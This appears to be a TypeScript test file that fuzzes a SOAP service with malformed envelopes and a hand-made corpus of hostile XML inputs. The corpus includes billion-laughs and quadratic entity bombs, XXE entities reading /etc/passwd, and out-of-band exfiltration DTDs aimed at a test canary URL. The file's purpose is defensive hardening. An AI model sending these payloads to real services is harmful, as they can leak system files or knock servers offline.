  opNs: pick<Model['opNs']>([30, 'right'], [1, 'none'], [1, 'wrong'], [1, 'case']),
  svcPrefix: fc.constantFrom('', '', 'tns', 'm'),
  attrs: fc.oneof(w(9, fc.constant(0)), w(1, fc.integer({ min: 1, max: 40 }))),
  nil: fc.oneof(w(19, fc.constant(false)), w(1, fc.constant(true))),
  comments: fc.oneof(w(9, fc.constant(false)), w(1, fc.constant(true))),
  struct: structArb,
  closeMut: fc.oneof(w(19, fc.constant(null)), w(1, fc.record({ kind: fc.constantFrom('drop' as const, 'extra' as const), which: fc.nat() }))),
  bytes: fc.oneof(w(3, fc.constant<ByteMut[]>([])), w(1, fc.array(byteMutArb, { minLength: 1, maxLength: 3 }))),
  truncate: fc.oneof(w(6, fc.constant(null)), w(1, fc.double({ min: 0, max: 1, noNaN: true, maxExcluded: true }))),
  ct: pick<Model['ct']>([20, 'right'], [3, 'bare'], [2, 'upper'], [1, 'swap'], [1, 'xml'], [1, 'plain'], [1, 'json'], [1, 'none'], [1, 'multipart'], [1, 'xmlSuffix']),
  action: pick<Model['action']>([6, 'none'], [2, 'empty'], [6, 'right'], [2, 'unquoted'], [1, 'wrong'], [1, 'otherOp']),
  enc: pick<Model['enc']>([20, 'utf8'], [2, 'bom'], [2, 'utf16'], [1, 'utf16cs'], [1, 'utf16be'], [1, 'latin1']),
}).map(({ opPayload, ...m }): Model => ({ ...m, ...opPayload }));

// ------------------------------------------------------------------------------ rendering a model

interface Rendered {
  headers: Record<string, string>;
  body: Buffer;
  ct: string | undefined;
  /** Why a fault (not a 200) is due, if it is. */
  faultDue: string[];
  /** Why a 200 with Status Success is due, if it is. */
  successDue: boolean;
}

const escText = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
const escAttr = (s: string): string => escText(s).replace(/"/g, '&quot;');

function render(m: Model): Rendered {
  const faultDue: string[] = [];
  const serverV = versionOfCt(ctOf(m));
  const envNs = m.envNs === 'right' ? envNsOf(m.v) : m.envNs === 'other' ? envNsOf(m.v === 11 ? 12 : 11) : m.envNs === 'wrong' ? 'http://example.com/not-soap/' : null;
  if (serverV === null) faultDue.push('a non-SOAP Content-Type');
  if (envNs === null || m.envLocal !== 'Envelope' || (serverV !== null && envNs !== envNsOf(serverV))) faultDue.push('the root is not an Envelope of the Content-Type\'s version');
  const ep = m.envPrefix ? `${m.envPrefix}:` : '';
  const envDecl = envNs === null ? '' : m.envPrefix ? ` xmlns:${m.envPrefix}="${envNs}"` : ` xmlns="${envNs}"`;
  let structDepth = 0;
  const structXml = (depth: number): string => {
    const s = m.struct!;
    structDepth = depth;
    if (s.kind === 'deep') return '<zz>'.repeat(s.depth) + '</zz>'.repeat(s.depth);
    if (s.kind === 'many') return '<zz/>'.repeat(s.n);
    return `<zz>${'A'.repeat(s.n)}</zz>`;
  };
  let attrNo = 0;
  const galore = (): string => {
    if (m.attrs === 0) return '';
    let s = '';
    for (let i = 0; i < m.attrs; i++) s += ` a${i}="${attrNo++}"`;
    if (m.attrs > 5) s += ' xmlns:j="urn:junk" j:x="&lt;&amp;&quot;"';
    return s;
  };
  const cm = m.comments ? '<!-- c --><?pi x?>' : '';

  // the operation element
  const sp = m.svcPrefix ? `${m.svcPrefix}:` : '';
  const opUri = m.opNs === 'right' ? NS : m.opNs === 'none' ? '' : m.opNs === 'wrong' ? 'http://TrackService.TrackRoad.com' : NS.toLowerCase(); // (saxes trims namespace names: a padded one is the same name)
  if (m.opNs !== 'right') faultDue.push('the operation is not in the service namespace');
  const opLocal = m.opName === 'right' ? m.op : m.opName === 'lower' ? m.op.toLowerCase() : `${m.op}X`;
  if (m.opName !== 'right') faultDue.push('no such operation');
  const node = (n: XNode): string => {
    const attrs = galore() + (m.nil || n.nil ? ' xsi:nil="true"' : '');
    if (n.nil) return `<${sp}${n.name}${attrs} />`;
    if (n.kids) return `<${sp}${n.name}${attrs}>${cm}${n.kids.map(node).join('')}</${sp}${n.name}>`;
    const t = n.text ?? '';
    return `<${sp}${n.name}${attrs}>${n.cdata ? `<![CDATA[${t}]]>` : escText(t)}</${sp}${n.name}>`;
  };
  const opXml = (depth: number): string => {
    const decl = m.svcPrefix ? ` xmlns:${m.svcPrefix}="${escAttr(opUri)}"` : ` xmlns="${escAttr(opUri)}"`;
    const inner = m.payload.map(node).join('') + (m.struct?.where === 'op' ? structXml(depth + 1) : '');
    return `<${sp}${opLocal}${decl}${galore()}>${cm}${inner}</${sp}${opLocal}>`;
  };

  // the key
  const keyText = (): string => {
    switch (m.key) {
      case 'real': return escText(key);
      case 'cdata': return `<![CDATA[${key}]]>`;
      case 'charref': return `&#${key.charCodeAt(0)};${escText(key.slice(1))}`;
      case 'split': return `${escText(key.slice(0, 5))}<!-- x -->${escText(key.slice(5))}`;
      case 'padded': return `  ${escText(key)}\n`;
      case 'wrong': return 'dk_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA';
      case 'empty': return '';
      case 'upper': return escText(key.toUpperCase());
      case 'huge': return 'k'.repeat(200_000);
      case 'nil': return '';
    }
  };
  const keyGood = m.key === 'real' || m.key === 'cdata' || m.key === 'charref' || m.key === 'split' ? true : m.key === 'padded' ? null : false;
  const sessionHeader = (ns: string, text: string, nil = false, mu = false): string =>
    `<h:SessionIDHeader xmlns:h="${ns}"${mu ? ` ${ep}mustUnderstand="${m.v === 11 ? '1' : 'true'}"` : ''}>${cm}<h:SessionID${nil ? ' xsi:nil="true"' : ''}>${text}</h:SessionID></h:SessionIDHeader>`;
  const struct = (w: 'header' | 'body', depth: number): string => (m.struct?.where === w ? structXml(depth) : '');
  let header = '';
  let headerAfter = '';
  let keyState: boolean | null = false;
  switch (m.header) {
    case 'ok': case 'mustUnderstand': case 'afterBody': case 'dup': {
      const h = `<${ep}Header>${sessionHeader(NS, keyText(), m.key === 'nil', m.header === 'mustUnderstand')}${struct('header', 3)}</${ep}Header>`;
      if (m.header === 'afterBody') headerAfter = h; else header = h;
      if (m.header === 'dup') header += `<${ep}Header>${sessionHeader(NS, 'dk_wrong')}</${ep}Header>`;
      keyState = keyGood;
      break;
    }
    case 'dupWrongFirst': header = `<${ep}Header>${sessionHeader(NS, 'dk_wrong')}${struct('header', 3)}</${ep}Header><${ep}Header>${sessionHeader(NS, keyText())}</${ep}Header>`; break;
    case 'wrongNs': header = `<${ep}Header>${sessionHeader('urn:wrong', keyText())}${struct('header', 3)}</${ep}Header>`; break;
    case 'empty': header = m.struct?.where === 'header' ? `<${ep}Header>${struct('header', 3)}</${ep}Header>` : `<${ep}Header/>`; break;
    case 'noSessionId': header = `<${ep}Header><h:SessionIDHeader xmlns:h="${NS}"/>${struct('header', 3)}</${ep}Header>`; break;
    case 'none': break;
  }
  if (keyState === false && m.op !== 'Login') faultDue.push('no valid key');

  // the body
  let body = '';
  switch (m.body) {
    case 'one': body = `<${ep}Body${galore()}>${cm}${opXml(3)}${struct('body', 3)}</${ep}Body>`; break;
    case 'two': body = `<${ep}Body>${opXml(3)}${struct('body', 3)}</${ep}Body><${ep}Body><junk/></${ep}Body>`; break;
    case 'none': faultDue.push('no Body'); break;
    case 'empty': faultDue.push('an empty Body'); body = m.struct && m.struct.where !== 'header' ? `<${ep}Body>${structXml(3)}</${ep}Body>` : `<${ep}Body/>`; break;
    case 'textOnly': faultDue.push('an empty Body'); body = `<${ep}Body>GetRoute</${ep}Body>`; break;
    case 'lower': faultDue.push('no Body'); body = `<${ep}body>${opXml(3)}</${ep}body>`; break;
    case 'junkFirst': faultDue.push('no operation first in the Body'); body = `<${ep}Body><x:junk xmlns:x="urn:junk"/>${opXml(3)}</${ep}Body>`; break;
  }
  if (m.struct && structDepth === 0) {
    // nowhere to put it: at the envelope's level
    body += structXml(2);
  }
  if (m.struct?.kind === 'deep' && structDepth - 1 + m.struct.depth > MAX_DEPTH) faultDue.push(`nesting ${structDepth - 1 + m.struct.depth} deep`);
  if (m.struct?.kind === 'huge' && m.struct.n > MAX_TEXT) faultDue.push(`a text node of ${m.struct.n} characters`);

  const decl = m.decl === 'none' ? '' : m.decl === 'utf8' ? '<?xml version="1.0" encoding="utf-8"?>' : m.decl === 'utf16' ? '<?xml version="1.0" encoding="utf-16"?>'
    : m.decl === 'v11' ? '<?xml version="1.1"?>' : '\n <?xml version="1.0"?>';
  const close = `</${ep}${m.envLocal}>`;
  let xml = `${decl}<${ep}${m.envLocal}${envDecl} xmlns:xsi="${XSI}" xmlns:xsd="http://www.w3.org/2001/XMLSchema"${galore()}>${cm}${header}${body}${headerAfter}${close}`;

  // unbalanced tags (every `<` and `>` outside markup is escaped, and CDATA never holds `>`)
  if (m.closeMut) {
    if (m.closeMut.kind === 'drop') {
      const closes = [...xml.matchAll(/<\/[^>]+>/g)];
      const c = closes[m.closeMut.which % closes.length];
      xml = xml.slice(0, c.index) + xml.slice(c.index! + c[0].length);
    } else {
      const gts = [...xml.matchAll(/>/g)];
      const g = gts[m.closeMut.which % gts.length];
      xml = xml.slice(0, g.index! + 1) + '</zz>' + xml.slice(g.index! + 1);
    }
    if (m.bytes.length === 0) faultDue.push(`unbalanced tags (${m.closeMut.kind})`);
  }

  // bytes
  let buf: Buffer;
  let closeBytes: Buffer;
  switch (m.enc) {
    case 'utf8': buf = Buffer.from(xml, 'utf8'); closeBytes = Buffer.from(close, 'utf8'); break;
    case 'bom': buf = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(xml, 'utf8')]); closeBytes = Buffer.from(close, 'utf8'); break;
    case 'utf16': buf = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, 'utf16le')]); closeBytes = Buffer.from(close, 'utf16le'); break;
    case 'utf16cs': buf = Buffer.from(xml, 'utf16le'); closeBytes = Buffer.from(close, 'utf16le'); break;
    case 'utf16be': buf = Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(xml, 'utf16le').swap16()]); closeBytes = Buffer.from(close, 'utf16le').swap16(); break;
    case 'latin1': buf = Buffer.from(xml, 'latin1'); closeBytes = Buffer.from(close, 'latin1'); break;
  }
  for (const b of m.bytes) {
    const at = Math.min(buf.length, Math.floor(b.at * buf.length));
    if (b.kind === 'insert') buf = Buffer.concat([buf.subarray(0, at), Buffer.from(b.bytes), buf.subarray(at)]);
    else if (b.kind === 'delete') buf = Buffer.concat([buf.subarray(0, at), buf.subarray(Math.min(buf.length, at + b.len))]);
    else if (at < buf.length) { buf = Buffer.from(buf); buf[at] ^= b.xor; }
  }
  if (m.truncate !== null) {
    const cut = Math.floor(m.truncate * buf.length);
    const end = buf.lastIndexOf(closeBytes);
    // cut before the end of the root's closing tag: the root is never closed
    if (end >= 0 && cut < end + closeBytes.length) faultDue.push('a truncated document');
    buf = buf.subarray(0, cut);
  }

  const headers: Record<string, string> = {};
  const ct = ctOf(m);
  if (ct !== undefined) headers['Content-Type'] = ct;
  const otherOp = m.op === 'GetRoute' ? 'GetTrack' : 'GetRoute';
  const actionValue = m.action === 'right' || m.action === 'unquoted' ? `${NS}${m.op}` : m.action === 'wrong' ? `${NS}Nope` : m.action === 'otherOp' ? `${NS}${otherOp}` : m.action === 'empty' ? '' : null;
  if (serverV === 11 && actionValue !== null) headers.SOAPAction = m.action === 'unquoted' ? actionValue : `"${actionValue}"`;
  if (serverV === 12 && actionValue) headers['Content-Type'] += `; action="${actionValue}"`;
  if (serverV !== null && (m.action === 'wrong' || m.action === 'otherOp') && (serverV === 11 || actionValue)) faultDue.push('an action naming another operation');

  const successDue = faultDue.length === 0 && m.op === 'CreditRemaining' && m.ct !== 'swap' && m.ct !== 'xmlSuffix' && keyState === true
    && m.decl === 'none' && ['utf8', 'bom', 'utf16', 'utf16cs'].includes(m.enc) && m.bytes.length === 0 && m.closeMut === null
    && m.truncate === null && (m.struct === null || (m.struct.kind === 'deep' && structDepth - 1 + m.struct.depth <= MAX_DEPTH - 8))
    && ['one', 'two'].includes(m.body) && m.header !== 'afterBody';
  return { headers, body: buf, ct: headers['Content-Type'], faultDue, successDue };
}

function ctOf(m: Model): string | undefined {
  const cs = m.enc === 'utf16cs' || m.enc === 'utf16be' ? 'utf-16' : 'utf-8';
  const v = m.ct === 'swap' ? (m.v === 11 ? 12 : 11) : m.v;
  const base = v === 11 ? 'text/xml' : 'application/soap+xml';
  switch (m.ct) {
    case 'right': case 'swap': return `${base}; charset=${cs}`;
    case 'bare': return m.enc === 'utf16cs' || m.enc === 'utf16be' ? `${base};charset="${cs.toUpperCase()}"` : base;
    case 'upper': return `${base.toUpperCase()}; CHARSET=${cs.toUpperCase()}`;
    case 'xmlSuffix': return `${base}-ish; charset=${cs}`;
    case 'xml': return 'application/xml; charset=utf-8';
    case 'plain': return 'text/plain';
    case 'json': return 'application/json';
    case 'multipart': return 'multipart/related; type="application/xop+xml"; start-info="text/xml"';
    case 'none': return undefined;
  }
}

/** What a rendered model exercises (for the report). */
function features(m: Model, r: Rendered): string[] {
  const f: string[] = [`op ${m.op}`, `SOAP ${m.v === 11 ? '1.1' : '1.2'}`];
  f.push(r.successDue ? 'due: Success' : r.faultDue.length > 0 ? 'due: a fault' : 'due: 200 or a fault');
  if (m.truncate !== null) f.push('truncated');
  if (m.bytes.length > 0) f.push('random bytes');
  if (m.closeMut) f.push('unbalanced tags');
  if (m.struct) f.push(`${m.struct.kind === 'deep' ? 'deep nesting' : m.struct.kind === 'many' ? 'many elements' : 'huge text'}${r.faultDue.some((x) => /nesting|text node/.test(x)) ? ' past the limit' : ''}`);
  if (m.attrs > 0) f.push('attributes galore');
  if (m.nil) f.push('xsi:nil everywhere');
  if (m.comments) f.push('comments and PIs');
  if (m.envNs !== 'right' || m.envLocal !== 'Envelope') f.push('wrong envelope namespace or name');
  if (m.opNs !== 'right' || m.opName !== 'right') f.push('wrong operation namespace or name');
  if (m.header !== 'ok') f.push(`header: ${m.header}`);
  if (m.key !== 'real') f.push(`key: ${m.key}`);
  if (m.body !== 'one') f.push(`body: ${m.body}`);
  if (m.ct !== 'right') f.push(`Content-Type: ${m.ct}`);
  if (m.action === 'wrong' || m.action === 'otherOp') f.push('mismatched action');
  if (m.enc !== 'utf8') f.push(`encoding: ${m.enc}`);
  if (m.decl !== 'none') f.push(`declaration: ${m.decl}`);
  if (JSON.stringify(m.payload).length > 2000) f.push('payload > 2 KB');
  return f;
}

// ------------------------------------------------------------------------------ the runs

interface Problem { what: string; index?: number; model?: Model; problems: string[]; request?: string }
const problems: Problem[] = [];
const outcomes = new Map<string, number>();
const summary: Record<string, unknown> = {};

function saveRepro(name: string, headers: Record<string, string>, body: Buffer): string {
  const file = join(tmpdir(), `dk-soap-fuzz-${name.replace(/[^\w.-]+/g, '_')}`);
  writeFileSync(`${file}.body`, body.length > 4 << 20 ? body.subarray(0, 4 << 20) : body);
  writeFileSync(`${file}.headers.json`, JSON.stringify(headers, null, 2));
  return file;
}

describe('the SOAP face under hostile input (a child server)', () => {
  it(`${ENVELOPES} fuzzed envelopes, ${IN_FLIGHT} in flight: a 200 envelope or a client fault each, no crash, no stall`, async () => {
    const models = fc.sample(modelArb, { seed: SEED, numRuns: ENVELOPES });
    const t0 = Date.now();
    let next = 0;
    let sent = 0;
    let bytes = 0;
    const latencies: number[] = [];
    const tally = new Map<string, number>();
    await Promise.all(Array.from({ length: IN_FLIGHT }, async () => {
      for (let i = next++; i < models.length; i = next++) {
        if (!alive()) return;
        const m = models[i];
        const r = render(m);
        bytes += r.body.length;
        for (const f of features(m, r)) tally.set(f, (tally.get(f) ?? 0) + 1);
        const res = await send({ headers: r.headers, body: r.body, agent: fuzzAgent });
        sent++;
        latencies.push(res.ms);
        const j = judge(r.ct, res, r.successDue ? '200' : r.faultDue.length > 0 ? 'fault' : 'any', m.opName === 'right' ? m.op : undefined);
        if (r.successDue && j.outcome !== '200 Success') j.problems.push(`Status Success due, got ${j.outcome}`);
        outcomes.set(j.outcome, (outcomes.get(j.outcome) ?? 0) + 1);
        if (j.problems.length > 0) {
          const file = problems.length < 50 ? saveRepro(`fuzz-${i}`, r.headers, r.body) : undefined;
          problems.push({ what: `fuzz #${i}`, index: i, model: m, problems: [...j.problems, `fault due: ${r.faultDue.join('; ') || 'no'}`], request: file });
        }
      }
    }));
    const t1 = Date.now();
    await probesCaughtUp(t1);
    const inPhase = probes.filter((p) => p.t0 >= t0 && p.t0 <= t1);
    const during = inPhase.map((p) => p.ms);
    const stalls = inPhase.map(stallOf);
    const cpuShare = (cpuMsAt(t1) - cpuMsAt(t0)) / (t1 - t0);
    Object.assign(summary, {
      fuzz: {
        seed: SEED, envelopes: sent, megabytes: Math.round(bytes / 1e5) / 10, seconds: (t1 - t0) / 1000,
        requestMs: { p50: percentile(latencies, 0.5), p99: percentile(latencies, 0.99), max: Math.max(...latencies) },
        outcomes: Object.fromEntries([...outcomes.entries()].sort((a, b) => b[1] - a[1])),
        probes: { count: during.length, p50: percentile(during, 0.5), p99: percentile(during, 0.99), max: Math.max(0, ...during), failed: inPhase.filter((p) => p.status !== 200).length },
        stalls: { p50: percentile(stalls, 0.5), p99: percentile(stalls, 0.99), max: Math.max(0, ...stalls) },
        serverMainThreadCpuShare: Math.round(cpuShare * 100) / 100,
        peakRssMb: peakRssMb(t0, t1),
        features: Object.fromEntries([...tally.entries()].sort((a, b) => b[1] - a[1])),
      },
    });
    console.log('SOAP fuzz:', JSON.stringify(summary.fuzz));
    const fuzzProblems = problems.filter((p) => p.what.startsWith('fuzz'));
    expect(alive(), exitInfo ?? '').toBe(true);
    expect(sent).toBe(ENVELOPES);
    expect(fuzzProblems.slice(0, 10).map((p) => ({ ...p, model: JSON.stringify(p.model).slice(0, 1500) })), `${fuzzProblems.length} envelopes answered wrongly`).toEqual([]);
    expect(inPhase.length, 'probes during the fuzzing').toBeGreaterThan(10);
    expect(percentile(stalls, 0.99), 'p99 of the /healthz stall during the fuzzing').toBeLessThanOrEqual(PROBE_P99_MS);
    expect(Math.max(0, ...stalls), 'max of the /healthz stall during the fuzzing').toBeLessThanOrEqual(PROBE_MAX_MS);
  }, 600_000);

  // ---------------------------------------------------------------- the hand-made corpus

  const envelope = (v: V, inner: string, header = true): string =>
    `<soap:Envelope xmlns:soap="${envNsOf(v)}" xmlns:xsi="${XSI}">` +
    (header ? `<soap:Header><SessionIDHeader xmlns="${NS}"><SessionID>${key}</SessionID></SessionIDHeader></soap:Header>` : '') +
    `<soap:Body>${inner}</soap:Body></soap:Envelope>`;
  const credit = `<CreditRemaining xmlns="${NS}" />`;
  const ct11 = 'text/xml; charset=utf-8';
  const ct12 = 'application/soap+xml; charset=utf-8';
  const lol = (n: number): string => {
    let s = '<!ENTITY lol0 "lollollollollollollollollollol">';
    for (let i = 1; i <= n; i++) s += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`;
    return s;
  };
  /** A body of exactly `size` bytes: an envelope whose one element holds a text of `fill` repeated. */
  const sized = (size: number, fill = 'A', v: V = 11): Buffer => {
    const head = Buffer.from(`<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="${envNsOf(v)}"><soap:Body><Geocode xmlns="${NS}"><specification><Addresses><Address><Street>`);
    const tail = Buffer.from('</Street></Address></Addresses></specification></Geocode></soap:Body></soap:Envelope>');
    const b = Buffer.alloc(size, fill);
    head.copy(b, 0);
    tail.copy(b, size - tail.length);
    return b;
  };
  const repeatJoin = (n: number, f: (i: number) => string): string => { const p: string[] = []; for (let i = 0; i < n; i++) p.push(f(i)); return p.join(''); };
  /** A well-nested envelope of about `bytes` bytes (`<a></a>` siblings): what a document of that size costs when no limit is hit. */
  const flatAsBig = (bytes: number, v: V = 11): { what: string; body: () => Buffer } =>
    ({ what: `a flat document of the same size (${Math.round(bytes / 1000)} KB of <a></a> siblings)`, body: () => Buffer.from(envelope(v, '<a></a>'.repeat(Math.round(bytes / 7)))) });

  interface Item {
    name: string;
    ct?: string;
    headers?: Record<string, string>;
    body: () => Buffer;
    expect: 'fault' | '200' | 'any' | '413';
    op?: string;
    send?: Partial<SendOptions>;
    /** Several at once (the memory item). */
    parallel?: number;
    /** A 50 MB body is being received: probe latency reported, not bounded. */
    receiving50MB?: boolean;
    /**
     * Bulk: several maximal bodies at once. Each is parsed on the event loop in turn (linear work,
     * ~0.3 s CPU per 31 MiB here), so a probe waits for the ones ahead of it: latency is reported,
     * not bounded (memory is).
     */
    bulk?: boolean;
    /** A client that gives up half-way: no answer expected, only a live server. */
    abort?: boolean;
    /**
     * A limit must stop the work early: this request may cost the event loop (server main-thread
     * CPU) at most 3 × what `body` costs + 100 ms — `body` being a document that is refused by
     * the same limit near its start (or a well-nested one of the same size). Compared in the
     * same run, so the machine's speed and load cancel out.
     */
    limitStopsEarly?: { what: string; body: () => Buffer };
  }
  const utf8 = (s: () => string): (() => Buffer) => () => Buffer.from(s(), 'utf8');
  const CORPUS: Item[] = [
    // entities and DTDs
    { name: 'billion laughs (SOAP 1.1)', ct: ct11, expect: 'fault', body: utf8(() => `<?xml version="1.0"?><!DOCTYPE soap:Envelope [${lol(9)}]>${envelope(11, `<Login xmlns="${NS}"><userName>&lol9;</userName><password>x</password></Login>`)}`) },
    { name: 'billion laughs (SOAP 1.2)', ct: ct12, expect: 'fault', body: utf8(() => `<!DOCTYPE soap:Envelope [${lol(9)}]>${envelope(12, `<Login xmlns="${NS}"><userName>&lol9;</userName></Login>`)}`) },
    { name: 'billion laughs in UTF-16LE with a BOM', ct: 'text/xml; charset=utf-16', expect: 'fault', body: () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`<!DOCTYPE lolz [${lol(9)}]><lolz>&lol9;</lolz>`, 'utf16le')]) },
    { name: 'billion laughs, lower-case doctype after a comment', ct: ct11, expect: 'fault', body: utf8(() => `<!-- hi --><!doctype lolz [${lol(9)}]><lolz>&lol9;</lolz>`) },
    { name: 'quadratic blowup (one 100 KB entity referenced 10,000 times)', ct: ct11, expect: 'fault', body: utf8(() => `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(100_000)}">]>${envelope(11, `<Login xmlns="${NS}"><userName>${'&a;'.repeat(10_000)}</userName></Login>`)}`) },
    { name: 'XXE: SYSTEM file:///etc/passwd in SessionID', ct: ct11, expect: 'fault', body: utf8(() => `<?xml version="1.0"?><!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><soap:Envelope xmlns:soap="${SOAP11}"><soap:Header><SessionIDHeader xmlns="${NS}"><SessionID>&xxe;</SessionID></SessionIDHeader></soap:Header><soap:Body>${credit}</soap:Body></soap:Envelope>`) },
    { name: 'XXE: SYSTEM file:///etc/passwd in a Login user name (echo-prone)', ct: ct12, expect: 'fault', body: utf8(() => `<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${envelope(12, `<Login xmlns="${NS}"><userName>&xxe;</userName><password>&xxe;</password></Login>`, false)}`) },
    { name: 'XXE: SYSTEM http URL (canary)', ct: ct11, expect: 'fault', body: () => Buffer.from(`<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "${canaryUrl}/xxe">]>${envelope(11, `<Geocode xmlns="${NS}"><specification><Addresses><Address><Street>&xxe;</Street></Address></Addresses></specification></Geocode>`)}`) },
    { name: 'XXE: PUBLIC id with an http URL (canary)', ct: ct11, expect: 'fault', body: () => Buffer.from(`<!DOCTYPE soap:Envelope PUBLIC "-//X//Y" "${canaryUrl}/public.dtd">${envelope(11, credit)}`) },
    { name: 'parameter entities: external DTD from the canary', ct: ct11, expect: 'fault', body: () => Buffer.from(`<?xml version="1.0"?><!DOCTYPE soap:Envelope [<!ENTITY % remote SYSTEM "${canaryUrl}/evil.dtd"> %remote; %all;]>${envelope(11, credit)}`) },
    { name: 'parameter entities: out-of-band exfiltration shape', ct: ct12, expect: 'fault', body: () => Buffer.from(`<!DOCTYPE r [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % dtd SYSTEM "${canaryUrl}/oob.dtd">%dtd;]>${envelope(12, credit)}`) },
    { name: 'an ENTITY declaration without a DOCTYPE', ct: ct11, expect: 'fault', body: utf8(() => `<!ENTITY x "y">${envelope(11, credit)}`) },
    { name: 'an undeclared entity reference', ct: ct11, expect: 'fault', body: utf8(() => envelope(11, `<Login xmlns="${NS}"><userName>&xxe;</userName></Login>`)) },
    { name: 'XInclude of /etc/passwd (must not be processed)', ct: ct11, expect: 'any', op: 'Geocode', body: utf8(() => envelope(11, `<Geocode xmlns="${NS}"><specification><Addresses><Address><Street><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/></Street></Address></Addresses></specification></Geocode>`)) },
    { name: 'a NUL character reference', ct: ct11, expect: 'fault', body: utf8(() => envelope(11, `<Login xmlns="${NS}"><userName>a&#0;b</userName></Login>`)) },
    { name: 'encoding="UTF-7" with a +ADw- payload', ct: ct11, expect: 'any', op: 'Login', body: utf8(() => `<?xml version="1.0" encoding="UTF-7"?>${envelope(11, `<Login xmlns="${NS}"><userName>+ADw-script+AD4-</userName><password>x</password></Login>`)}`) },

    // depth
    { name: '10,000-deep nesting inside the Body', ct: ct11, expect: 'fault', body: utf8(() => envelope(11, '<a>'.repeat(10_000) + '</a>'.repeat(10_000))), limitStopsEarly: flatAsBig(70_000) },
    { name: '10,000-deep nesting as the whole document', ct: ct12, expect: 'fault', body: utf8(() => '<a>'.repeat(10_000) + '</a>'.repeat(10_000)), limitStopsEarly: flatAsBig(70_000, 12) },
    { name: '21,000-deep nesting (about one 64 KiB parse slice of open tags)', ct: ct11, expect: 'fault', body: utf8(() => envelope(11, '<a>'.repeat(21_000) + '</a>'.repeat(21_000))), limitStopsEarly: flatAsBig(147_000) },
    { name: '100,000-deep nesting, never closed', ct: ct11, expect: 'fault', body: utf8(() => envelope(11, '<a>'.repeat(100_000))), limitStopsEarly: flatAsBig(300_000) },
    { name: '10,000-deep nesting, each element declaring a namespace', ct: ct11, expect: 'fault', body: utf8(() => envelope(11, '<a xmlns="urn:a">'.repeat(10_000) + '</a>'.repeat(10_000))), limitStopsEarly: flatAsBig(170_000) },

    // sizes
    { name: '50 MB declared (Content-Length), nothing sent until the answer', ct: ct11, expect: '413', body: () => Buffer.alloc(0), send: { mode: 'declared-wait', declared: 50 * 1000 * 1000 } },
    { name: '50 MB sent in full with its Content-Length, without waiting', ct: ct11, expect: '413', receiving50MB: true, body: () => sized(1 << 20, ' '), send: { mode: 'stream', declared: 50 * 1000 * 1000, timeoutMs: 60_000 } },
    { name: '50 MB chunked (no Content-Length)', ct: ct12, expect: '413', receiving50MB: true, body: () => Buffer.alloc(1 << 20, 'B'), send: { mode: 'stream', declared: 50 * 1000 * 1000, chunked: true, timeoutMs: 60_000 } },
    { name: `one byte over the limit (${LIMIT_MIB} MiB + 1), sent after a 300 ms head start`, ct: ct11, expect: '413', body: () => sized(1 << 20, ' '), send: { mode: 'stream', declared: BODY_LIMIT + 1, headStartMs: 300, timeoutMs: 60_000 } },
    { name: `just under the limit (${LIMIT_MIB} MiB − 1 KiB): one huge text node`, ct: ct11, expect: 'fault', body: () => sized(BODY_LIMIT - 1024) },
    { name: `exactly the limit (${LIMIT_MIB} MiB): one huge text node`, ct: ct12, expect: 'fault', body: () => sized(BODY_LIMIT, 'A', 12) },
    { name: `8 bodies of ${LIMIT_MIB - 1} MiB at once (memory)`, ct: ct11, expect: 'fault', parallel: 8, bulk: true, body: () => sized(NEAR_LIMIT) },
    { name: `a ${LIMIT_MIB - 1} MiB attribute value`, ct: ct11, expect: 'any', op: 'CreditRemaining', body: () => { const s = envelope(11, `<CreditRemaining xmlns="${NS}" big="@"/>`); const [a, b] = s.split('@'); return Buffer.concat([Buffer.from(a), Buffer.alloc(NEAR_LIMIT, 'v'), Buffer.from(b)]); } },
    { name: `a ${LIMIT_MIB - 1} MiB comment`, ct: ct11, expect: 'any', op: 'CreditRemaining', body: () => { const s = envelope(11, `<!--@-->${credit}`); const [a, b] = s.split('@'); return Buffer.concat([Buffer.from(a), Buffer.alloc(NEAR_LIMIT, 'c'), Buffer.from(b)]); } },
    {
      name: `${Math.floor(NEAR_LIMIT / 5).toLocaleString('en')} character references (${(NEAR_LIMIT / 1e6).toFixed(0)} MB) in one text node`, ct: ct11, expect: 'fault', body: utf8(() => envelope(11, `<Login xmlns="${NS}"><userName>${'&#65;'.repeat(Math.floor(NEAR_LIMIT / 5))}</userName></Login>`)),
      limitStopsEarly: { what: '1,200,000 of them (6 MB, past the 1 MiB text limit too)', body: utf8(() => envelope(11, `<Login xmlns="${NS}"><userName>${'&#65;'.repeat(1_200_000)}</userName></Login>`)) },
    },
    { name: '1,000,000 attributes on one element', ct: ct11, expect: 'any', op: 'CreditRemaining', body: utf8(() => envelope(11, `<CreditRemaining xmlns="${NS}"${repeatJoin(1_000_000, (i) => ` a${i}=""`)}/>`)) },
    { name: '100,000 namespace declarations on one element', ct: ct11, expect: 'any', op: 'CreditRemaining', body: utf8(() => envelope(11, `<CreditRemaining xmlns="${NS}"${repeatJoin(100_000, (i) => ` xmlns:p${i}="urn:${i}"`)}/>`)) },
    { name: 'an element name 1 MB long', ct: ct11, expect: 'fault', body: utf8(() => envelope(11, `<${'n'.repeat(1 << 20)} xmlns="${NS}"/>`)) },
    { name: 'an operation element with a 1 MB name in the service namespace', ct: ct12, expect: 'fault', body: utf8(() => envelope(12, `<CreditRemaining${'x'.repeat(1 << 20)} xmlns="${NS}"/>`)) },
    { name: '1,000,001 elements', ct: ct11, expect: 'fault', body: utf8(() => envelope(11, `<CreditRemaining xmlns="${NS}">${'<a/>'.repeat(1_000_001)}</CreditRemaining>`)) },
